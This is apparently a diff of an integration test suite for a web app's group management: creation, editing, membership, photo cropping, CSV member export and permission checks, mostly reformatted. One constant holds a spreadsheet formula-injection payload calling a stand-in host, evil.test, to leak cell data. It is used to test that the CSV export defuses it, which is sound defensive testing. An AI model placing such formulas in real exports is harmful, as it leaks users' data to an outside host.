@@ -3,51 +3,71 @@ import { createElement, type ReactNode } from 'react';
 import { renderToReadableStream } from 'react-dom/server';
 import sharp from 'sharp';
 import { beforeAll, describe, expect, it } from 'vitest';
-import { getDb } from '@/db';
-import { auditLog, files, groupMembers, groups, roleAssignments, roles, users } from '@/db/schema';
+
+import { MyGroups } from '@/app/(account)/settings/profile/my-groups';
+import { GET as candidates } from '@/app/(org)/org-settings/groups/[id]/candidates/route';
+import { GET as exportCsv } from '@/app/(org)/org-settings/groups/[id]/members.csv/route';
+import GroupPage from '@/app/(org)/org-settings/groups/[id]/page';
 import { createGroup, deleteGroup, updateGroup } from '@/app/(org)/org-settings/groups/actions';
 import { addGroupMember, removeGroupMember } from '@/app/(org)/org-settings/groups/member-actions';
-import { removeGroupPhoto, uploadGroupPhoto } from '@/app/(org)/org-settings/groups/photo-actions';
-import GroupsPage from '@/app/(org)/org-settings/groups/page';
 import NewGroupPage from '@/app/(org)/org-settings/groups/new/page';
-import GroupPage from '@/app/(org)/org-settings/groups/[id]/page';
-import { GET as exportCsv } from '@/app/(org)/org-settings/groups/[id]/members.csv/route';
-import { GET as candidates } from '@/app/(org)/org-settings/groups/[id]/candidates/route';
-import { MyGroups } from '@/app/(account)/settings/profile/my-groups';
+import GroupsPage from '@/app/(org)/org-settings/groups/page';
+import { removeGroupPhoto, uploadGroupPhoto } from '@/app/(org)/org-settings/groups/photo-actions';
 import { signInWithPassword } from '@/app/sign-in/actions';
 import { I18nProvider } from '@/components/i18n-provider';
+import { getDb } from '@/db';
+import { auditLog, files, groupMembers, groups, roleAssignments, roles, users } from '@/db/schema';
 import { messagesFor } from '@/lib/i18n/messages';
 import { listUserGroupsForAdmin, listVisibleGroupsOf, membersCsvStream } from '@/lib/org/groups';
 import { revalidated } from '@/tests/shims/next-cache';
+
 import { TestClient } from '../support/client';
-import { addUser, createOrgWithUser, STRONG_PASSWORD } from '../support/fixtures';
 import { useTestDatabase } from '../support/database';
+import { addUser, createOrgWithUser, STRONG_PASSWORD } from '../support/fixtures';
 
 useTestDatabase();
 
 const TAKEN = 'A group with this name already exists. Choose another name.';
 const HYPERLINK = '=HYPERLINK("http://evil.test/?leak="&A1,"Click")';
 let orgId: string;
-const id = {} as Record<'ada' | 'bob' | 'carol' | 'dave' | 'gus' | 'mallory' | 'eve' | 'frank' | 'foreignGroup', string>;
+const id = {} as Record<
+  'ada' | 'bob' | 'carol' | 'dave' | 'gus' | 'mallory' | 'eve' | 'frank' | 'foreignGroup',
+  string
+>;
 const as = {} as Record<'ada' | 'bob' | 'carol' | 'gus' | 'eve', TestClient>;
 
 async function signIn(email: string) {
   const browser = new TestClient();
-  expect((await browser.action(signInWithPassword, { email, password: STRONG_PASSWORD })).redirect).toBe('/settings/profile');
+  expect((await browser.action(signInWithPassword, { email, password: STRONG_PASSWORD })).redirect).toBe(
+    '/settings/profile',
+  );
   return browser;
 }
 
-async function makeGroup(values: { orgId?: string; name: string; visibility?: 'public' | 'private' | 'hidden' }, members: string[] = []) {
+async function makeGroup(
+  values: { orgId?: string; name: string; visibility?: 'public' | 'private' | 'hidden' },
+  members: string[] = [],
+) {
   const db = await getDb();
-  const [group] = await db.insert(groups).values({ orgId, ...values }).returning();
-  if (members.length) await db.insert(groupMembers).values(members.map((userId) => ({ orgId: group.orgId, groupId: group.id, userId })));
+  const [group] = await db
+    .insert(groups)
+    .values({ orgId, ...values })
+    .returning();
+  if (members.length)
+    await db.insert(groupMembers).values(members.map((userId) => ({ orgId: group.orgId, groupId: group.id, userId })));
   return group;
 }
-const groupRow = async (groupId: string) => (await (await getDb()).select().from(groups).where(eq(groups.id, groupId)))[0];
+const groupRow = async (groupId: string) =>
+  (await (await getDb()).select().from(groups).where(eq(groups.id, groupId)))[0];
 const memberIds = async (groupId: string) =>
-  (await (await getDb()).select().from(groupMembers).where(eq(groupMembers.groupId, groupId))).map((m) => m.userId).sort();
+  (await (await getDb()).select().from(groupMembers).where(eq(groupMembers.groupId, groupId)))
+    .map((m) => m.userId)
+    .sort();
 const audits = async (action: string, targetId: string) =>
-  (await getDb()).select().from(auditLog).where(and(eq(auditLog.action, action), eq(auditLog.targetId, targetId)));
+  (await getDb())
+    .select()
+    .from(auditLog)
+    .where(and(eq(auditLog.action, action), eq(auditLog.targetId, targetId)));
 /** Every group and membership of every organization, to prove a refused request changed nothing. */
 async function snapshot() {
   const db = await getDb();
@@ -60,15 +80,24 @@ async function snapshot() {
 
 async function html(browser: TestClient, tree: () => Promise<ReactNode>): Promise<string> {
   const { result } = await browser.run(async () => {
-    const stream = await renderToReadableStream(createElement(I18nProvider, { locale: 'en', timeZone: 'UTC', messages: messagesFor('en') }, await tree()));
+    const stream = await renderToReadableStream(
+      createElement(I18nProvider, { locale: 'en', timeZone: 'UTC', messages: messagesFor('en') }, await tree()),
+    );
     await stream.allReady;
     return new Response(stream).text();
   });
   return result!;
 }
-const pageProps = (groupId: string, search: Record<string, string> = {}) => ({ params: Promise.resolve({ id: groupId }), searchParams: Promise.resolve(search) });
+const pageProps = (groupId: string, search: Record<string, string> = {}) => ({
+  params: Promise.resolve({ id: groupId }),
+  searchParams: Promise.resolve(search),
+});
 const route = (browser: TestClient, handler: typeof exportCsv, groupId: string, query = '') =>
-  browser.run(() => handler(new Request(`http://localhost:3000/org-settings/groups/${groupId}/x${query}`), { params: Promise.resolve({ id: groupId }) }));
+  browser.run(() =>
+    handler(new Request(`http://localhost:3000/org-settings/groups/${groupId}/x${query}`), {
+      params: Promise.resolve({ id: groupId }),
+    }),
+  );
 
 /** RFC 4180, enough to read our own output back. */
 function parseCsv(text: string): string[][] {
@@ -110,24 +139,49 @@ beforeAll(async () => {
   id.gus = (await addUser(orgId, { email: 'gus@acme.test', firstName: 'Gus' })).id;
   id.mallory = (await addUser(orgId, { email: 'mallory@acme.test', firstName: HYPERLINK })).id;
   await db.update(users).set({ status: 'deactivated' }).where(eq(users.id, id.dave));
-  await db.update(users).set({ lastName: 'Smith, "Jr"\nLine two', username: '@mallory' }).where(eq(users.id, id.mallory));
+  await db
+    .update(users)
+    .set({ lastName: 'Smith, "Jr"\nLine two', username: '@mallory' })
+    .where(eq(users.id, id.mallory));
   // Gus may manage groups through a custom role, not through his managed role.
-  const [role] = await db.insert(roles).values({ orgId, name: 'Group keeper', permissions: ['groups.manage'] }).returning();
+  const [role] = await db
+    .insert(roles)
+    .values({ orgId, name: 'Group keeper', permissions: ['groups.manage'] })
+    .returning();
   await db.insert(roleAssignments).values({ orgId, roleId: role.id, userId: id.gus });
   const other = await createOrgWithUser({ orgName: 'Elsewhere', email: 'eve@elsewhere.test', role: 'owner' });
   id.eve = other.user.id;
   id.frank = (await addUser(other.org.id, { email: 'frank@elsewhere.test', firstName: 'Frank' })).id;
   id.foreignGroup = (await makeGroup({ orgId: other.org.id, name: 'Design team' }, [id.frank])).id;
-  for (const who of ['ada', 'bob', 'carol', 'gus', 'eve'] as const) as[who] = await signIn(`${who}@${who === 'eve' ? 'elsewhere' : 'acme'}.test`);
+  for (const who of ['ada', 'bob', 'carol', 'gus', 'eve'] as const)
+    as[who] = await signIn(`${who}@${who === 'eve' ? 'elsewhere' : 'acme'}.test`);
 });
 
 describe('creating a group', () => {
   it('creates it, audits it and redirects to its page', async () => {
-    const outcome = await as.ada.action(createGroup, { name: '  Design   team ', type: 'department', visibility: 'private', description: ' Makes things look good. ' });
-    const [created] = await (await getDb()).select().from(groups).where(and(eq(groups.orgId, orgId), eq(groups.name, 'Design team')));
-    expect(created).toMatchObject({ type: 'department', visibility: 'private', description: 'Makes things look good.', photoFileId: null });
+    const outcome = await as.ada.action(createGroup, {
+      name: '  Design   team ',
+      type: 'department',
+      visibility: 'private',
+      description: ' Makes things look good. ',
+    });
+    const [created] = await (
+      await getDb()
+    )
+      .select()
+      .from(groups)
+      .where(and(eq(groups.orgId, orgId), eq(groups.name, 'Design team')));
+    expect(created).toMatchObject({
+      type: 'department',
+      visibility: 'private',
+      description: 'Makes things look good.',
+      photoFileId: null,
+    });
     expect(outcome.redirect).toBe(`/org-settings/groups/${created.id}?notice=created`);
-    expect((await audits('group.created', created.id))[0]).toMatchObject({ actorUserId: id.ada, data: { name: 'Design team', type: 'department', visibility: 'private' } });
+    expect((await audits('group.created', created.id))[0]).toMatchObject({
+      actorUserId: id.ada,
+      data: { name: 'Design team', type: 'department', visibility: 'private' },
+    });
   });
 
   it('refuses a name taken in the organization, whatever its case, as a field error', async () => {
@@ -142,11 +196,19 @@ describe('creating a group', () => {
     const cases: Array<[Record<string, string>, string, string]> = [
       [{ name: '   ', type: 'team', visibility: 'public' }, 'name', 'Fill in this field.'],
       [{ name: 'x'.repeat(101), type: 'team', visibility: 'public' }, 'name', 'This is too long.'],
-      [{ name: 'Bell\u0007', type: 'team', visibility: 'public' }, 'name', 'Remove the control or invisible direction characters from this field.'],
+      [
+        { name: 'Bell\u0007', type: 'team', visibility: 'public' },
+        'name',
+        'Remove the control or invisible direction characters from this field.',
+      ],
       [{ name: 'Ok', type: 'guild', visibility: 'public' }, 'type', 'Choose a group type.'],
       [{ name: 'Ok', visibility: 'public' }, 'type', 'Choose a group type.'],
       [{ name: 'Ok', type: 'team', visibility: 'secret' }, 'visibility', 'Choose a visibility.'],
-      [{ name: 'Ok', type: 'team', visibility: 'public', description: 'd'.repeat(501) }, 'description', 'This is too long.'],
+      [
+        { name: 'Ok', type: 'team', visibility: 'public', description: 'd'.repeat(501) },
+        'description',
+        'This is too long.',
+      ],
     ];
     for (const [fields, field, message] of cases) {
       const { result } = await as.ada.action(createGroup, fields);
@@ -160,21 +222,38 @@ describe('creating a group', () => {
 describe('editing a group', () => {
   it('saves the changed fields with an audit entry', async () => {
     const group = await makeGroup({ name: 'Ops' });
-    const { result } = await as.ada.action(updateGroup, { groupId: group.id, name: 'Operations', type: 'project', visibility: 'hidden', description: '' });
+    const { result } = await as.ada.action(updateGroup, {
+      groupId: group.id,
+      name: 'Operations',
+      type: 'project',
+      visibility: 'hidden',
+      description: '',
+    });
     expect(result).toMatchObject({ status: 'success', message: 'Group saved.' });
     expect(await groupRow(group.id)).toMatchObject({ name: 'Operations', type: 'project', visibility: 'hidden' });
     const [entry] = await audits('group.updated', group.id);
-    expect(entry.data).toMatchObject({ fields: ['name', 'type', 'visibility'], before: { name: 'Ops' }, after: { name: 'Operations' } });
+    expect(entry.data).toMatchObject({
+      fields: ['name', 'type', 'visibility'],
+      before: { name: 'Ops' },
+      after: { name: 'Operations' },
+    });
     expect(revalidated).toContain(`/org-settings/groups/${group.id}`);
   });
 
   it('refuses another group’s name; a foreign or malformed id is a 404 and changes nothing', async () => {
     const group = await makeGroup({ name: 'Support' });
     const before = await snapshot();
-    const taken = await as.ada.action(updateGroup, { groupId: group.id, name: 'design team', type: 'team', visibility: 'public' });
+    const taken = await as.ada.action(updateGroup, {
+      groupId: group.id,
+      name: 'design team',
+      type: 'team',
+      visibility: 'public',
+    });
     expect(taken.result?.fieldErrors?.name).toEqual([TAKEN]);
     for (const groupId of [id.foreignGroup, 'not-a-uuid', '00000000-0000-4000-8000-000000000000']) {
-      expect((await as.ada.action(updateGroup, { groupId, name: 'Hijacked', type: 'team', visibility: 'public' })).notFound).toBe(true);
+      expect(
+        (await as.ada.action(updateGroup, { groupId, name: 'Hijacked', type: 'team', visibility: 'public' })).notFound,
+      ).toBe(true);
     }
     expect(await snapshot()).toBe(before);
   });
@@ -183,15 +262,23 @@ describe('editing a group', () => {
 describe('members', () => {
   it('adds people of the organization and removes them, with audit entries', async () => {
     const group = await makeGroup({ name: 'Backend' });
-    expect((await as.ada.action(addGroupMember, { groupId: group.id, userId: id.carol })).result).toMatchObject({ status: 'success', message: 'Member added.' });
+    expect((await as.ada.action(addGroupMember, { groupId: group.id, userId: id.carol })).result).toMatchObject({
+      status: 'success',
+      message: 'Member added.',
+    });
     expect((await as.gus.action(addGroupMember, { groupId: group.id, userId: id.bob })).result?.status).toBe('success');
     expect(await memberIds(group.id)).toEqual([id.bob, id.carol].sort());
-    expect((await audits('group.member_added', group.id)).map((e) => e.data.userId).sort()).toEqual([id.bob, id.carol].sort());
+    expect((await audits('group.member_added', group.id)).map((e) => e.data.userId).sort()).toEqual(
+      [id.bob, id.carol].sort(),
+    );
 
     const again = await as.ada.action(addGroupMember, { groupId: group.id, userId: id.carol });
     expect(again.result).toMatchObject({ status: 'error', message: 'This person is already a member.' });
 
-    expect((await as.ada.action(removeGroupMember, { groupId: group.id, userId: id.carol })).result).toMatchObject({ status: 'success', message: 'Member removed.' });
+    expect((await as.ada.action(removeGroupMember, { groupId: group.id, userId: id.carol })).result).toMatchObject({
+      status: 'success',
+      message: 'Member removed.',
+    });
     expect(await memberIds(group.id)).toEqual([id.bob]);
     expect((await audits('group.member_removed', group.id))[0].data).toMatchObject({ userId: id.carol });
     const notMember = await as.ada.action(removeGroupMember, { groupId: group.id, userId: id.carol });
@@ -205,8 +292,12 @@ describe('members', () => {
       const { result } = await as.ada.action(addGroupMember, { groupId: group.id, userId });
       expect(result?.status).toBe('error');
     }
-    expect((await as.ada.action(addGroupMember, { groupId: group.id, userId: id.frank })).result?.message).toBe('This person is not in your organization.');
-    expect((await as.ada.action(addGroupMember, { groupId: group.id, userId: id.dave })).result?.message).toBe('This person is deactivated and cannot be added.');
+    expect((await as.ada.action(addGroupMember, { groupId: group.id, userId: id.frank })).result?.message).toBe(
+      'This person is not in your organization.',
+    );
+    expect((await as.ada.action(addGroupMember, { groupId: group.id, userId: id.dave })).result?.message).toBe(
+      'This person is deactivated and cannot be added.',
+    );
     expect(await snapshot()).toBe(before);
   });
 
@@ -214,7 +305,9 @@ describe('members', () => {
     const before = await snapshot();
     expect((await as.ada.action(addGroupMember, { groupId: id.foreignGroup, userId: id.carol })).notFound).toBe(true);
     expect((await as.ada.action(addGroupMember, { groupId: id.foreignGroup, userId: id.frank })).notFound).toBe(true);
-    expect((await as.ada.action(removeGroupMember, { groupId: id.foreignGroup, userId: id.frank })).notFound).toBe(true);
+    expect((await as.ada.action(removeGroupMember, { groupId: id.foreignGroup, userId: id.frank })).notFound).toBe(
+      true,
+    );
     expect(await snapshot()).toBe(before);
     expect(await memberIds(id.foreignGroup)).toEqual([id.frank]);
   });
@@ -223,15 +316,29 @@ describe('members', () => {
     const group = await makeGroup({ name: 'Search' }, [id.bob]);
     const response = (await route(as.ada, candidates, group.id, '?q=ACME.test')).result!;
     expect(response.status).toBe(200);
-    const found = ((await response.json()) as { candidates: Array<{ id: string; email: string }> }).candidates.map((c) => c.email);
-    expect(found).toEqual(expect.arrayContaining(['ada@acme.test', 'carol@acme.test', 'gus@acme.test', 'mallory@acme.test']));
+    const found = ((await response.json()) as { candidates: Array<{ id: string; email: string }> }).candidates.map(
+      (c) => c.email,
+    );
+    expect(found).toEqual(
+      expect.arrayContaining(['ada@acme.test', 'carol@acme.test', 'gus@acme.test', 'mallory@acme.test']),
+    );
     expect(found).not.toEqual(expect.arrayContaining(['bob@acme.test']));
     expect(found.some((e) => e.startsWith('dave') || e.endsWith('elsewhere.test'))).toBe(false);
-    const byUsername = (await (await route(as.ada, candidates, group.id, '?q=%40mallo')).result!.json()) as { candidates: Array<{ email: string }> };
+    const byUsername = (await (await route(as.ada, candidates, group.id, '?q=%40mallo')).result!.json()) as {
+      candidates: Array<{ email: string }>;
+    };
     expect(byUsername.candidates.map((c) => c.email)).toEqual(['mallory@acme.test']);
     // A LIKE wildcard in the query is a literal character.
-    expect(((await (await route(as.ada, candidates, group.id, '?q=%25')).result!.json()) as { candidates: unknown[] }).candidates).toEqual([]);
-    for (const [who, groupId] of [['ada', id.foreignGroup], ['bob', group.id], ['carol', group.id], ['ada', 'nope']] as const) {
+    expect(
+      ((await (await route(as.ada, candidates, group.id, '?q=%25')).result!.json()) as { candidates: unknown[] })
+        .candidates,
+    ).toEqual([]);
+    for (const [who, groupId] of [
+      ['ada', id.foreignGroup],
+      ['bob', group.id],
+      ['carol', group.id],
+      ['ada', 'nope'],
+    ] as const) {
       expect((await route(as[who], candidates, groupId, '?q=user')).result!.status).toBe(404);
     }
   });
@@ -249,15 +356,22 @@ describe('members', () => {
 describe('deleting a group', () => {
   it('refuses a wrong confirmation, then deletes the group, its members and its photo', async () => {
     const group = await makeGroup({ name: 'Legacy' }, [id.bob, id.carol]);
-    const png = await sharp({ create: { width: 40, height: 20, channels: 3, background: '#00ff00' } }).png().toBuffer();
-    await as.ada.action(uploadGroupPhoto, { groupId: group.id, photo: new File([new Uint8Array(png)], 'g.png', { type: 'image/png' }) });
+    const png = await sharp({ create: { width: 40, height: 20, channels: 3, background: '#00ff00' } })
+      .png()
+      .toBuffer();
+    await as.ada.action(uploadGroupPhoto, {
+      groupId: group.id,
+      photo: new File([new Uint8Array(png)], 'g.png', { type: 'image/png' }),
+    });
     const { photoFileId } = await groupRow(group.id);
     const before = await snapshot();
     for (const confirmName of ['', 'legacy', 'Legacy!', 'Design team']) {
       const { result } = await as.ada.action(deleteGroup, { groupId: group.id, confirmName });
       expect(result?.fieldErrors?.confirmName).toEqual(['Type the group name exactly as shown to delete it.']);
     }
-    expect((await as.ada.action(deleteGroup, { groupId: id.foreignGroup, confirmName: 'Design team' })).notFound).toBe(true);
+    expect((await as.ada.action(deleteGroup, { groupId: id.foreignGroup, confirmName: 'Design team' })).notFound).toBe(
+      true,
+    );
     expect(await snapshot()).toBe(before);
 
     const outcome = await as.ada.action(deleteGroup, { groupId: group.id, confirmName: ' Legacy ' });
@@ -274,7 +388,15 @@ describe('group photo', () => {
     const group = await makeGroup({ name: 'Cropped' });
     // Left half red, right half blue: a crop of the right 100 × 100 is all blue.
     const png = await sharp({ create: { width: 200, height: 100, channels: 3, background: '#0000ff' } })
-      .composite([{ input: await sharp({ create: { width: 100, height: 100, channels: 3, background: '#ff0000' } }).png().toBuffer(), left: 0, top: 0 }])
+      .composite([
+        {
+          input: await sharp({ create: { width: 100, height: 100, channels: 3, background: '#ff0000' } })
+            .png()
+            .toBuffer(),
+          left: 0,
+          top: 0,
+        },
+      ])
       .png()
       .toBuffer();
     const photo = () => new File([new Uint8Array(png)], 'g.png', { type: 'image/png' });
@@ -282,12 +404,28 @@ describe('group photo', () => {
     expect(half.result?.fieldErrors?.cropSize).toEqual(['The crop area is not valid. Choose the image again.']);
     expect((await groupRow(group.id)).photoFileId).toBeNull();
 
-    const ok = await as.ada.action(uploadGroupPhoto, { groupId: group.id, photo: photo(), cropX: '100', cropY: '0', cropSize: '100' });
+    const ok = await as.ada.action(uploadGroupPhoto, {
+      groupId: group.id,
+      photo: photo(),
+      cropX: '100',
+      cropY: '0',
+      cropSize: '100',
+    });
     expect(ok.result?.message).toBe('Photo updated.');
-    const [file] = await (await getDb()).select().from(files).where(eq(files.id, (await groupRow(group.id)).photoFileId!));
+    const [file] = await (
+      await getDb()
+    )
+      .select()
+      .from(files)
+      .where(eq(files.id, (await groupRow(group.id)).photoFileId!));
     const { data, info } = await sharp(file.data!).raw().toBuffer({ resolveWithObject: true });
-    const at = (x: number, y: number) => Array.from(data.subarray((y * info.width + x) * info.channels, (y * info.width + x) * info.channels + 3));
-    for (const [x, y] of [[10, 10], [128, 128], [245, 245]]) {
+    const at = (x: number, y: number) =>
+      Array.from(data.subarray((y * info.width + x) * info.channels, (y * info.width + x) * info.channels + 3));
+    for (const [x, y] of [
+      [10, 10],
+      [128, 128],
+      [245, 245],
+    ]) {
       const [r, , b] = at(x, y);
       expect(b, `pixel ${x},${y}`).toBeGreaterThan(200);
       expect(r).toBeLessThan(60);
@@ -297,9 +435,13 @@ describe('group photo', () => {
 
   it('stores the centre square as WebP, replaces it and removes it; a foreign id is a 404', async () => {
     const group = await makeGroup({ name: 'Pictured' });
-    const png = await sharp({ create: { width: 300, height: 100, channels: 3, background: '#ff0000' } }).png().toBuffer();
+    const png = await sharp({ create: { width: 300, height: 100, channels: 3, background: '#ff0000' } })
+      .png()
+      .toBuffer();
     const photo = () => new File([new Uint8Array(png)], 'g.png', { type: 'image/png' });
-    expect((await as.ada.action(uploadGroupPhoto, { groupId: group.id, photo: photo() })).result?.message).toBe('Photo updated.');
+    expect((await as.ada.action(uploadGroupPhoto, { groupId: group.id, photo: photo() })).result?.message).toBe(
+      'Photo updated.',
+    );
     const first = (await groupRow(group.id)).photoFileId!;
     const [file] = await (await getDb()).select().from(files).where(eq(files.id, first));
     expect(file).toMatchObject({ orgId, contentType: 'image/webp' });
@@ -309,7 +451,10 @@ describe('group photo', () => {
     expect((await groupRow(group.id)).photoFileId).not.toBe(first);
     expect(await (await getDb()).select().from(files).where(eq(files.id, first))).toEqual([]);
 
-    const bad = await as.ada.action(uploadGroupPhoto, { groupId: group.id, photo: new File(['not an image'], 'x.png', { type: 'image/png' }) });
+    const bad = await as.ada.action(uploadGroupPhoto, {
+      groupId: group.id,
+      photo: new File(['not an image'], 'x.png', { type: 'image/png' }),
+    });
     expect(bad.result?.fieldErrors?.photo).toEqual(['Choose a JPG or PNG image of at most 5 MB.']);
     const before = await snapshot();
     expect((await as.ada.action(uploadGroupPhoto, { groupId: id.foreignGroup, photo: photo() })).notFound).toBe(true);
@@ -318,7 +463,11 @@ describe('group photo', () => {
 
     expect((await as.ada.action(removeGroupPhoto, { groupId: group.id })).result?.message).toBe('Photo removed.');
     expect((await groupRow(group.id)).photoFileId).toBeNull();
-    expect((await audits('group.updated', group.id)).map((e) => e.data.fields)).toEqual([['photo'], ['photo'], ['photo']]);
+    expect((await audits('group.updated', group.id)).map((e) => e.data.fields)).toEqual([
+      ['photo'],
+      ['photo'],
+      ['photo'],
+    ]);
   });
 });
 
@@ -328,7 +477,9 @@ describe('exporting members as CSV', () => {
     const response = (await route(as.ada, exportCsv, group.id)).result!;
     expect(response.status).toBe(200);
     expect(response.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/);
-    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="export-q1-all-any-members\.csv"; filename\*=UTF-8''[A-Za-z0-9%._-]+$/);
+    expect(response.headers.get('content-disposition')).toMatch(
+      /^attachment; filename="export-q1-all-any-members\.csv"; filename\*=UTF-8''[A-Za-z0-9%._-]+$/,
+    );
     const body = await response.text();
     expect(body.startsWith('email,first_name,last_name,username,added_at\r\n')).toBe(true);
     expect(body.endsWith('\r\n')).toBe(true);
@@ -350,15 +501,26 @@ describe('exporting members as CSV', () => {
   it('reads every member exactly once across keyset pages', async () => {
     const group = await makeGroup({ name: 'Paged' }, [id.ada, id.bob, id.carol, id.gus, id.mallory]);
     const text = await new Response(membersCsvStream(await getDb(), { orgId, groupId: group.id, pageSize: 2 })).text();
-    const emails = parseCsv(text).slice(1).map((r) => r[0]).sort();
+    const emails = parseCsv(text)
+      .slice(1)
+      .map((r) => r[0])
+      .sort();
     expect(emails).toEqual(['ada@acme.test', 'bob@acme.test', 'carol@acme.test', 'gus@acme.test', 'mallory@acme.test']);
     // Another organization's id reads nothing, even for a real group.
-    expect(parseCsv(await new Response(membersCsvStream(await getDb(), { orgId, groupId: id.foreignGroup })).text())).toHaveLength(1);
+    expect(
+      parseCsv(await new Response(membersCsvStream(await getDb(), { orgId, groupId: id.foreignGroup })).text()),
+    ).toHaveLength(1);
   });
 
   it('is a 404 without the permission, for another organization’s group, and signed out', async () => {
     const group = await makeGroup({ name: 'Secret list' }, [id.carol]);
-    for (const [browser, groupId] of [[as.bob, group.id], [as.carol, group.id], [as.ada, id.foreignGroup], [as.eve, group.id], [new TestClient(), group.id]] as const) {
+    for (const [browser, groupId] of [
+      [as.bob, group.id],
+      [as.carol, group.id],
+      [as.ada, id.foreignGroup],
+      [as.eve, group.id],
+      [new TestClient(), group.id],
+    ] as const) {
       expect((await route(browser, exportCsv, groupId)).result!.status).toBe(404);
     }
     expect(await audits('group.exported', group.id)).toEqual([]);
@@ -369,14 +531,19 @@ describe('permissions', () => {
   it('refuses every page and action to a member without groups.manage, changing nothing', async () => {
     const group = await makeGroup({ name: 'Guarded' }, [id.carol]);
     const before = await snapshot();
-    const png = await sharp({ create: { width: 10, height: 10, channels: 3, background: '#000' } }).png().toBuffer();
+    const png = await sharp({ create: { width: 10, height: 10, channels: 3, background: '#000' } })
+      .png()
+      .toBuffer();
     const attempts = [
       as.bob.action(createGroup, { name: 'Bob group', type: 'team', visibility: 'public' }),
       as.bob.action(updateGroup, { groupId: group.id, name: 'Bobbed', type: 'team', visibility: 'public' }),
       as.bob.action(deleteGroup, { groupId: group.id, confirmName: 'Guarded' }),
       as.bob.action(addGroupMember, { groupId: group.id, userId: id.bob }),
       as.bob.action(removeGroupMember, { groupId: group.id, userId: id.carol }),
-      as.bob.action(uploadGroupPhoto, { groupId: group.id, photo: new File([new Uint8Array(png)], 'p.png', { type: 'image/png' }) }),
+      as.bob.action(uploadGroupPhoto, {
+        groupId: group.id,
+        photo: new File([new Uint8Array(png)], 'p.png', { type: 'image/png' }),
+      }),
       as.bob.action(removeGroupPhoto, { groupId: group.id }),
       as.bob.run(() => GroupsPage({ searchParams: Promise.resolve({}) })),
       as.bob.run(() => NewGroupPage()),
@@ -391,7 +558,8 @@ describe('permissions', () => {
     expect(list).toContain('Guarded');
     expect(list).toContain('Group deleted.');
     expect(list).not.toContain(id.foreignGroup);
-    for (const groupId of [id.foreignGroup, 'nope']) expect((await as.ada.run(() => GroupPage(pageProps(groupId)))).notFound).toBe(true);
+    for (const groupId of [id.foreignGroup, 'nope'])
+      expect((await as.ada.run(() => GroupPage(pageProps(groupId)))).notFound).toBe(true);
   });
 });
 
@@ -419,12 +587,31 @@ describe('groups on a profile', () => {
   it('lets another viewer see private groups only as a member, and the admin helper sees them all', async () => {
     const db = await getDb();
     // Carol is in groups of earlier tests too; only these three matter here.
-    const ours = (list: Array<{ id: string }>) => list.map((g) => g.id).filter((g) => Object.values(visible).includes(g)).sort();
-    const asBob = await listVisibleGroupsOf(db, { orgId, userId: id.carol, viewerId: id.bob, viewerManagesGroups: false });
+    const ours = (list: Array<{ id: string }>) =>
+      list
+        .map((g) => g.id)
+        .filter((g) => Object.values(visible).includes(g))
+        .sort();
+    const asBob = await listVisibleGroupsOf(db, {
+      orgId,
+      userId: id.carol,
+      viewerId: id.bob,
+      viewerManagesGroups: false,
+    });
     expect(ours(asBob)).toEqual([visible.public]);
-    const asGus = await listVisibleGroupsOf(db, { orgId, userId: id.carol, viewerId: id.gus, viewerManagesGroups: false });
+    const asGus = await listVisibleGroupsOf(db, {
+      orgId,
+      userId: id.carol,
+      viewerId: id.gus,
+      viewerManagesGroups: false,
+    });
     expect(ours(asGus)).toEqual([visible.public, visible.private].sort());
-    const asManager = await listVisibleGroupsOf(db, { orgId, userId: id.carol, viewerId: id.bob, viewerManagesGroups: true });
+    const asManager = await listVisibleGroupsOf(db, {
+      orgId,
+      userId: id.carol,
+      viewerId: id.bob,
+      viewerManagesGroups: true,
+    });
     expect(ours(asManager)).toEqual(Object.values(visible).sort());
     const all = await listUserGroupsForAdmin(db, orgId, id.carol);
     expect(all.map((g) => g.id)).toEqual(expect.arrayContaining(Object.values(visible)));
